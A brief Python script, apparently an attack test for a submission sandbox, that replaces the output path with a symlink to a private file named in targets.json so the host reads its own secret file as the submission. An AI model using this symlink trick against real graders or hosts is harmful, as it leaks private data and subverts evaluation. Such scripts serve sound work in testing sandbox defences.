"""Attack: have the host read its own private file as the submission."""

import json
import os
from pathlib import Path

TARGETS = json.loads(Path(os.environ["INPUT"], "targets.json").read_bytes())

Path(os.environ["OUTPUT"]).symlink_to(TARGETS["private_files"][0])
